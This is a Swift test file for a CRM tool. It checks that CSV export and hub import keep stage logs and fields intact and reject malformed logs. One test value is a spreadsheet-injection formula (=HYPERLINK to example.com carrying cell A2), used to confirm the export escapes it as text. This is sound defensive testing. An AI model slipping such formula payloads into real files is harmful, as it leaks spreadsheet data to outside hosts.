import Foundation
import OppsCore
import OppsHub
import Testing

/// Issue 15 item 6: `opps export --csv` then `opps-hub import` into a new hub loses nothing — the
/// stage log, when and by whom each record was made, every field — so reports read the same.
@Suite(.serialized) struct RoundTripTests {
    @Test func exportThenImportIsLossless() async throws {
        let f = try CommandFixture()
        let files = f.root + "/files"
        try FileManager.default.createDirectory(atPath: files, withIntermediateDirectories: true)
        try await f.serving { url in
            for u in ["sam", "max"] { #expect(await f.initReplica(u, url).code == 0) }
            let sam = f.home("sam")
            let id = try #require(
                await opps(
                    "new", "华东 试点", "--account", "上海云帆", "--amount", "120000.00", "--currency", "CNY",
                    "--close", "2027-03-31", "--home", sam, "--json"
                ).json?["id"]?.string)
            #expect(await opps("set", id, "needs=ERP, \"big\"", "decision_makers=CFO", "--home", sam).code == 0)
            #expect(await opps("stage", id, "solution", "--home", sam).code == 0)
            // A name a spreadsheet would run as a formula (CSV injection), a phone number that
            // starts like one, and a next step that starts with an apostrophe of its own.
            let second = try #require(
                await opps("new", "=HYPERLINK(\"https://example.com/?\"&A2,\"详情\")", "--account", "上海云帆", "--home", sam, "--json").json?["id"]?.string)
            #expect(await opps("set", second, "decision_makers=+86 138 0000 0000", "next_step='=早上打电话", "--home", sam).code == 0)
            #expect(await opps("sync", "--home", sam).code == 0)
            #expect(await opps("sync", "--home", f.home("max")).code == 0)
            for type in ["account", "opportunity"] {
                let out = await opps("export", "--csv", "--type", type, "--home", f.home("max"))
                #expect(out.code == 0)
                try out.stdout.write(toFile: "\(files)/\(type).csv", atomically: true, encoding: .utf8)
            }
        }
        let before = try String(contentsOfFile: files + "/opportunity.csv", encoding: .utf8)
        #expect(before.contains("solution sam"), "the export carries the stage log")
        #expect(before.contains(",\"'=HYPERLINK(\"\"https://example.com/?\"\"&A2,\"\"详情\"\")\","), "written as text: \(before)")
        #expect(before.contains(",'+86 138 0000 0000,") && before.contains(",''=早上打电话,"), "\(before)")

        // A new hub with the same people; accounts first, then the deals that reference them.
        let other = f.root + "/other"
        #expect(await oppsHub("init", "--data", other).code == 0)
        let maxToken = try #require(await oppsHub("user", "add", "max", "--role", "manager", "--data", other, "--json").json?["token"]?.string)
        // As text: the token once, then the line to run on sam's laptop, with it in place.
        let sam = await oppsHub("user", "add", "sam", "--role", "sales", "--manager", "max", "--data", other)
        let samLines = sam.stdout.split(separator: "\n").map(String.init)
        let samToken = try #require(samLines.first?.split(separator: " ").last.map(String.init))
        #expect(
            sam.code == 0
                && samLines == ["added sam (sales); token (shown once): \(samToken)", "on sam's laptop: opps init --hub <the hub's address> --token \(samToken)"])
        #expect(samToken.hasPrefix("opps_") && samToken != maxToken)
        for type in ["account", "opportunity"] {
            let imported = await oppsHub("import", "\(files)/\(type).csv", "--type", type, "--data", other)
            #expect(imported.code == 0, "\(type): \(imported.stdout) \(imported.stderr)")
        }
        let hub = try Hub(configuration: HubConfiguration(dataDirectory: other, port: 0))
        try await f.serving(hub: hub) { url in
            let home = f.root + "/max-other"
            #expect(await opps("init", "--hub", url, "--token", maxToken, "--home", home).code == 0)
            let after = await opps("export", "--csv", "--type", "opportunity", "--home", home)
            #expect(after.code == 0)
            #expect(Set(after.stdout.components(separatedBy: "\r\n")) == Set(before.components(separatedBy: "\r\n")), "\(before)\n---\n\(after.stdout)")
            // Reports read the same history: time in stage counts the first stay from the creation.
            let report = await opps("report", "time-in-stage", "--home", home, "--json")
            #expect(report.json?.array?.contains { $0["stage"]?.string == "discovery" && $0["stays"]?.int == 1 } == true, "\(report.stdout)")
            #expect(report.json?.array?.contains { $0["stage"]?.string == "solution" && $0["stays"]?.int == 0 } == true, "\(report.stdout)")
        }
    }

    @Test func aBrokenStageLogIsRefusedWithItsLine() async throws {
        let f = try CommandFixture()
        let file = f.root + "/bad.csv"
        try "id,name,stage,stage_log\r\n,Bad,solution,\"1795000000000 discovery sam\n1794000000000 solution sam\"\r\n,Worse,solution,1795000000000 nowhere sam\r\n"
            .write(toFile: file, atomically: true, encoding: .utf8)
        let r = await oppsHub("import", file, "--type", "opportunity", "--data", f.root + "/hub")
        #expect(r.code == 1)
        #expect(r.stderr.contains("line 2 is earlier") || r.stdout.contains("line 2 is earlier"), "\(r.stdout) \(r.stderr)")
        #expect(r.stderr.contains("names no stage") || r.stdout.contains("names no stage"), "\(r.stdout) \(r.stderr)")
    }

    /// A marketer's export withholds who moved a deal past her stages (`MILLISECONDS STAGE `):
    /// the operator imports it as written, and the deal's timeline reads those moves as someone's.
    @Test func aStageLogWithWithheldNamesIsImportedAsWritten() async throws {
        let f = try CommandFixture()
        let file = f.root + "/marketer.csv"
        let log = "1795000000000 qualified mia\n1795000100000 discovery \n1795000200000 solution "
        // Malformed all the same: no user and no space before it, or no stage.
        for bad in ["1795000000000 qualified", "1795000000000  mia"] {
            try "id,name,owner,stage,stage_log\r\n,Beta pilot,sam,solution,\(bad)\r\n".write(toFile: file, atomically: true, encoding: .utf8)
            let refused = await oppsHub("import", file, "--type", "opportunity", "--data", f.root + "/hub")
            #expect(refused.code == 1 && (refused.stdout + refused.stderr).contains("line 1"), "\(bad): \(refused.stdout) \(refused.stderr)")
        }
        try "id,name,owner,stage,stage_log\r\n,Beta pilot,sam,solution,\"\(log)\"\r\n".write(toFile: file, atomically: true, encoding: .utf8)
        try await f.serving { url in
            let r = await oppsHub("import", file, "--type", "opportunity", "--data", f.root + "/hub")
            #expect(r.code == 0, "\(r.stdout) \(r.stderr)")
            #expect(await f.initReplica("max", url).code == 0)
            let deals = await opps("export", "--csv", "--type", "opportunity", "--home", f.home("max")).stdout
            #expect(deals.contains(log), "\(deals)")
            let id = try #require(deals.components(separatedBy: "\r\n").first { $0.contains("Beta pilot") }?.split(separator: ",").first.map(String.init))
            let history = await opps(["show", id, "--home", f.home("max")], environment: ["LANG": "C"]).stdout
            #expect(history.contains("someone") && history.contains("mia"), "\(history)")
        }
    }
}
